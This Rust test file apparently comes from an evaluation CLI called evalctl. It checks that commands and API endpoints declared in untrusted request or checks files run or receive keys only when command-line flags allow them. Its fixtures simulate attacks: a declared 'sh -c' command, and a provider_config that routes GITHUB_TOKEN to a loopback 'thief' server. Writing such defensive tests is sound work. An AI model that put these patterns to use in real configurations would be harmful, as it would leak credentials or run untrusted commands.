//! Requests and checks files are not the user: a custom check command they declare runs only
//! with `--allow-custom-check NAME`, and a `provider_config` that names an endpoint or a key
//! sends a key only to an endpoint allowed for it with `--allow-endpoint [KEY_ENV@]BASE_URL`.
//! Otherwise the check is a `validation_error` (the rest still runs), through `fep evaluate`
//! (request and checks file) and `run --checks`. The attacks: a declared command that would
//! create a marker file, and a checks file that would send `GITHUB_TOKEN` to a loopback server.

use serde_json::{json, Value};

use crate::common::{code, json_stdout, stderr_text, Reply, Request, Sandbox, Server};
use crate::extended_support::{api_reply, scored_line};

/// The token a checks file tries to steal.
const TOKEN: &str = "ghp-Steal9Me4Not7Ever";

/// A declaration whose command creates `marker` in the working directory.
fn marker_declaration() -> Value {
    json!({"marker": {"command": ["sh", "-c", "touch marker; echo '{\"passed\": true}'"]}})
}

fn marker_refusal() -> Value {
    json!({"type": "validation_error", "recoverable": false,
        "message": "type: custom check `marker` runs a command declared in the request or \
            checks file, not on the command line; evalctl runs it only when allowed with \
            --allow-custom-check marker"})
}

fn exact_match() -> Value {
    json!({"type": "exact_match", "arguments": {"actual": "$.output.value", "expected": "Paris"}})
}

fn request(checks: Value) -> Value {
    json!({
        "custom_checks": marker_declaration(),
        "test_cases": [{"id": "t1", "input": "Capital of France?"}],
        "outputs": [{"value": "Paris"}],
        "checks": checks
    })
}

/// `fep evaluate request.json FLAGS` in `dir`: exit code and the document.
fn evaluate(dir: &Sandbox, flags: &[&str]) -> (i32, Value) {
    let output = dir
        .evalctl()
        .args(["fep", "evaluate", "request.json", "--format", "json"])
        .args(flags)
        .env("GITHUB_TOKEN", TOKEN)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout).to_string() + &stderr_text(&output);
    assert!(!text.contains(TOKEN), "the token was shown: {text}");
    (output.status.code().unwrap_or(-1), json_stdout(&output))
}

#[test]
fn a_command_a_request_declares_runs_only_when_allowed_by_name() {
    let dir = Sandbox::new();
    dir.write(
        "request.json",
        request(json!([{"type": "marker", "arguments": {}}, exact_match()])).to_string(),
    );
    let (code, document) = evaluate(&dir, &[]);
    assert_eq!(code, 1, "{document}");
    let results = &document["results"][0]["check_results"];
    assert_eq!(results[0]["error"], marker_refusal());
    assert_eq!(
        results[1]["results"],
        json!({"passed": true}),
        "the rest runs"
    );
    assert!(!dir.exists("marker"), "the declared command ran");
    // Allowing another name allows nothing.
    evaluate(&dir, &["--allow-custom-check", "other"]);
    assert!(!dir.exists("marker"), "the declared command ran");

    let (code, document) = evaluate(&dir, &["--allow-custom-check", "marker"]);
    assert_eq!(code, 0, "{document}");
    assert_eq!(
        document["results"][0]["check_results"][0]["results"],
        json!({"passed": true})
    );
    assert!(dir.exists("marker"), "the allowed command did not run");
}

#[test]
fn a_command_a_checks_file_declares_runs_only_when_allowed_through_fep_and_run() {
    let dir = Sandbox::new();
    dir.write(
        "checks.json",
        json!({"custom_checks": marker_declaration(),
            "checks": [{"type": "marker", "arguments": {}}, exact_match()]})
        .to_string(),
    );
    dir.write("cases.jsonl", "{\"id\": \"t1\", \"input\": \"q\"}\n");
    dir.write("outputs.jsonl", "{\"value\": \"Paris\"}\n");
    let fep = |flags: &[&str]| {
        dir.evalctl()
            .args(["fep", "evaluate", "--test-cases", "cases.jsonl"])
            .args(["--outputs", "outputs.jsonl", "--checks", "checks.json"])
            .args(["--format", "json"])
            .args(flags)
            .output()
            .unwrap()
    };
    let refused = fep(&[]);
    assert_eq!(refused.status.code(), Some(1));
    assert_eq!(
        json_stdout(&refused)["results"][0]["check_results"][0]["error"],
        marker_refusal()
    );
    assert!(!dir.exists("marker"), "the declared command ran");

    // `run --checks`: the refusal is said before the run, and every call scores it as failed.
    let run = |flags: &[&str]| {
        dir.evalctl()
            .args(["run", "--checks", "checks.json", "--candidate", "Paris"])
            .args(["--output", "out.jsonl", "--format", "json"])
            .args(flags)
            .output()
            .unwrap()
    };
    let refused = run(&[]);
    assert_eq!(refused.status.code(), Some(0));
    assert_eq!(
        stderr_text(&refused),
        "warning: checks.json: check marker: type: custom check `marker` runs a command \
         declared in the request or checks file, not on the command line; evalctl runs it only \
         when allowed with --allow-custom-check marker\n\
         warning: check marker errored in 1 of 1 calls and counted as failed (see \
         side_info.check_results in out.jsonl)\n"
    );
    assert_eq!(scored_line(dir.path())["score"], 0.5);
    assert!(!dir.exists("marker"), "the declared command ran");

    assert_eq!(
        fep(&["--allow-custom-check", "marker"]).status.code(),
        Some(0)
    );
    assert!(dir.exists("marker"), "the allowed command did not run");
    std::fs::remove_file(dir.join("marker")).unwrap();
    std::fs::remove_file(dir.join("out.jsonl")).unwrap();
    let allowed = run(&["--allow-custom-check", "marker"]);
    assert_eq!(stderr_text(&allowed), "");
    assert_eq!(scored_line(dir.path())["score"], 1.0);
    assert!(dir.exists("marker"), "the allowed command did not run");
}

#[test]
fn the_flags_are_checked() {
    let dir = Sandbox::new();
    let fails = |args: &[&str], stderr: &str| {
        dir.evalctl()
            .args(args)
            .args(["--format", "text"])
            .assert()
            .code(2)
            .stderr(stderr.to_string());
    };
    fails(
        &["fep", "evaluate", "-", "--allow-custom-check", "bad name"],
        "error: invalid value 'bad name' for '--allow-custom-check <NAME>': \"bad name\" is not \
         a check type name (letters, digits, `_`, `-` and `.`, starting with a letter or `_`)\n\n\
         For more information, try '--help'.\n",
    );
    fails(
        &[
            "fep",
            "evaluate",
            "-",
            "--allow-endpoint",
            "1X@http://127.0.0.1:9/v1",
        ],
        "error: --allow-endpoint: \"1X\" is not an environment variable name\n",
    );
    fails(
        &[
            "run",
            "--checks",
            "c.json",
            "--allow-endpoint",
            "https://u:pw-Secret1@example.com/v1",
        ],
        "error: --allow-endpoint: must not carry a user, password or query (a key belongs in an \
         environment variable)\n",
    );
    fails(
        &[
            "run",
            "--evaluator-url",
            "http://127.0.0.1:9/",
            "--allow-custom-check",
            "x",
        ],
        "error: --allow-custom-check: only applies to --checks\n",
    );
    fails(
        &[
            "run",
            "--evaluator-url",
            "http://127.0.0.1:9/",
            "--allow-endpoint",
            "http://127.0.0.1:9/v1",
        ],
        "error: --allow-endpoint: only applies to --checks\n",
    );
}

/// A loopback API that answers like the fake OpenAI-compatible one, recording what it gets.
fn thief() -> Server {
    Server::start(|request: &Request, _| {
        if request.header("authorization") == Some(&format!("Bearer {TOKEN}")) {
            Reply::json(json!({"data": [{"embedding": [1.0]}, {"embedding": [1.0]}]}).to_string())
        } else {
            api_reply(request)
        }
    })
}

/// A similarity check whose provider_config sends `GITHUB_TOKEN` to `server` (under a path
/// that carries a secret of its own).
fn stealing(server: &Server) -> Value {
    json!({"type": "semantic_similarity", "arguments": {
        "text": "$.output.value", "reference": "Paris", "threshold": {"min_value": 0.5},
        "provider_config": {"base_url": server.url("/t/path-Secret2/v1"),
            "api_key_env": "GITHUB_TOKEN", "max_retries": 0},
        "model_config": {"model": "embed"}}})
}

fn endpoint_refusal(server: &Server) -> Value {
    json!({"type": "validation_error", "recoverable": false,
        "message": format!("arguments.provider_config.base_url: http://127.0.0.1:{} is not \
            allowed: evalctl calls an endpoint that a request or checks file names only when the \
            command line allows it (--allow-endpoint [KEY_ENV@]BASE_URL; allowed: none)",
            server.port())})
}

fn carried_the_token(server: &Server) -> bool {
    server
        .requests()
        .iter()
        .any(|request| request.header("authorization") == Some(&format!("Bearer {TOKEN}")))
}

#[test]
fn a_request_sends_a_key_only_where_the_command_line_allows_it() {
    let server = thief();
    let dir = Sandbox::new();
    dir.write(
        "request.json",
        request(json!([stealing(&server), exact_match()])).to_string(),
    );
    let (code, document) = evaluate(&dir, &[]);
    assert_eq!(code, 1);
    let results = &document["results"][0]["check_results"];
    assert_eq!(results[0]["error"], endpoint_refusal(&server));
    assert_eq!(
        results[1]["results"],
        json!({"passed": true}),
        "the rest runs"
    );
    assert_eq!(server.request_count(), 0, "the file's endpoint was called");

    // Allowed without a key: called, but the key is not sent.
    let keyless = server.url("/t/path-Secret2/v1");
    let (_, document) = evaluate(&dir, &["--allow-endpoint", &keyless]);
    assert_eq!(
        document["results"][0]["check_results"][0]["error"]["message"],
        format!(
            "arguments.provider_config.api_key: the key in `GITHUB_TOKEN` is not allowed for \
             {keyless}: the command line allows none there (--allow-endpoint \
             GITHUB_TOKEN@{keyless} would allow it)"
        )
    );
    assert!(!carried_the_token(&server));

    let (code, document) = evaluate(
        &dir,
        &["--allow-endpoint", &format!("GITHUB_TOKEN@{keyless}")],
    );
    assert_eq!(code, 0, "{document}");
    assert!(carried_the_token(&server), "the allowed key was not sent");
}

#[test]
fn a_checks_file_sends_a_key_only_where_the_command_line_allows_it() {
    let server = thief();
    let dir = Sandbox::new();
    dir.write(
        "checks.json",
        json!({"checks": [stealing(&server)]}).to_string(),
    );
    dir.write("cases.jsonl", "{\"id\": \"t1\", \"input\": \"q\"}\n");
    dir.write("outputs.jsonl", "{\"value\": \"Paris\"}\n");
    let fep = |flags: &[&str]| {
        dir.evalctl()
            .env("GITHUB_TOKEN", TOKEN)
            .args(["fep", "evaluate", "--test-cases", "cases.jsonl"])
            .args(["--outputs", "outputs.jsonl", "--checks", "checks.json"])
            .args(["--format", "json"])
            .args(flags)
            .output()
            .unwrap()
    };
    let refused = fep(&[]);
    assert_eq!(
        json_stdout(&refused)["results"][0]["check_results"][0]["error"],
        endpoint_refusal(&server)
    );
    let run = |flags: &[&str]| {
        dir.evalctl()
            .env("GITHUB_TOKEN", TOKEN)
            .args(["run", "--checks", "checks.json", "--candidate", "Paris"])
            .args(["--format", "json"])
            .args(flags)
            .output()
            .unwrap()
    };
    // `run --checks`: with its one check refused, nothing would be evaluated: refused at once.
    let refused = run(&[]);
    assert_eq!(
        (refused.status.code(), stderr_text(&refused)),
        (
            Some(2),
            format!(
                "error: checks.json: check semantic_similarity: {}\n\
                 error: checks.json: no check of the file may run, so nothing would be \
                 evaluated: allow what they name on the command line, or add a check that runs\n",
                endpoint_refusal(&server)["message"].as_str().unwrap()
            )
        )
    );
    assert_eq!(server.request_count(), 0, "the file's endpoint was called");

    let allowed = format!("GITHUB_TOKEN@{}", server.url("/t/path-Secret2/v1"));
    assert_eq!(fep(&["--allow-endpoint", &allowed]).status.code(), Some(0));
    assert!(carried_the_token(&server), "the allowed key was not sent");
    let before = server.request_count();
    assert_eq!(run(&["--allow-endpoint", &allowed]).status.code(), Some(0));
    assert_eq!(server.request_count(), before + 1);
}

/// A request of one check with `provider_config`, the user's defaults pointing at a server with
/// `TOKEN` in `key_env`: refused with `refusal` (nothing sent), then sent there with the key once
/// `--allow-endpoint KEY_ENV@URL` allows it.
fn spends_no_key_until_allowed(provider_config: Value, key_env: &str, refusal: &str) {
    let server = thief();
    let dir = Sandbox::new();
    let mut check = stealing(&server);
    check["arguments"]["provider_config"] = provider_config;
    dir.write("request.json", request(json!([check])).to_string());
    let evaluate = |flags: &[&str]| {
        let output = dir
            .evalctl()
            .env("EVALCTL_JUDGE_BASE_URL", server.url("/v1"))
            .env(key_env, TOKEN)
            .args(["fep", "evaluate", "request.json", "--format", "json"])
            .args(flags)
            .output()
            .unwrap();
        (output.status.code(), json_stdout(&output))
    };
    let (code, document) = evaluate(&[]);
    assert_eq!(code, Some(1));
    assert_eq!(
        document["results"][0]["check_results"][0]["error"],
        json!({"type": "validation_error", "recoverable": false, "message": refusal})
    );
    assert_eq!(server.request_count(), 0, "the key was sent");
    let allowed = format!("{key_env}@{}", server.url("/v1"));
    let (code, document) = evaluate(&["--allow-endpoint", &allowed]);
    assert_eq!(code, Some(0), "{document}");
    assert!(carried_the_token(&server), "the allowed key was not sent");
}

#[test]
fn a_check_that_names_no_endpoint_spends_no_key_without_the_command_lines_say_so() {
    // The user's defaults point at the server with a key: a request naming no endpoint would
    // spend it there (on api.openai.com, without the variables).
    spends_no_key_until_allowed(
        json!({"max_retries": 0}),
        "OPENAI_API_KEY",
        "arguments.provider_config.base_url: names no endpoint, and the command line allows \
         none: a request or checks file calls a model, with your key, only where the command \
         line allows it (--allow-endpoint [KEY_ENV@]BASE_URL, such as --allow-endpoint \
         OPENAI_API_KEY@https://api.openai.com/v1)",
    );
}

#[test]
fn a_check_that_names_another_provider_picks_no_key_without_the_command_lines_say_so() {
    // `provider_name: "dd"` would send DD_API_KEY to the user's EVALCTL_JUDGE_BASE_URL.
    spends_no_key_until_allowed(
        json!({"provider_name": "dd", "max_retries": 0}),
        "DD_API_KEY",
        "arguments.provider_config.provider_name: the key in `DD_API_KEY` is not allowed: \
         evalctl sends a key that a request or checks file names only to an endpoint the \
         command line allows for it (--allow-endpoint DD_API_KEY@BASE_URL; allowed: none)",
    );
}

#[test]
fn an_endpoint_allowed_with_a_key_that_is_not_set_is_said_before_any_call() {
    let server = thief();
    let dir = Sandbox::new();
    dir.write(
        "request.json",
        request(json!([stealing(&server)])).to_string(),
    );
    let allowed = format!("GITHUB_TOKEN@{}", server.url("/t/path-Secret2/v1"));
    let warning = format!(
        "warning: --allow-endpoint GITHUB_TOKEN@http://127.0.0.1:{}: GITHUB_TOKEN is not set, \
         so no key is sent there\n",
        server.port()
    );
    let output = dir
        .evalctl()
        .args(["fep", "evaluate", "request.json", "--format", "json"])
        .args(["--allow-endpoint", &allowed])
        .output()
        .unwrap();
    assert_eq!(stderr_text(&output), warning);
    assert!(!carried_the_token(&server));
    // `run --checks` says it in its preflight.
    dir.write(
        "checks.json",
        json!({"checks": [stealing(&server)]}).to_string(),
    );
    let output = dir
        .evalctl()
        .args([
            "preflight",
            "--checks",
            "checks.json",
            "--candidate",
            "Paris",
        ])
        .args(["--allow-endpoint", &allowed])
        .output()
        .unwrap();
    assert_eq!((code(&output), stderr_text(&output)), (0, warning));
}
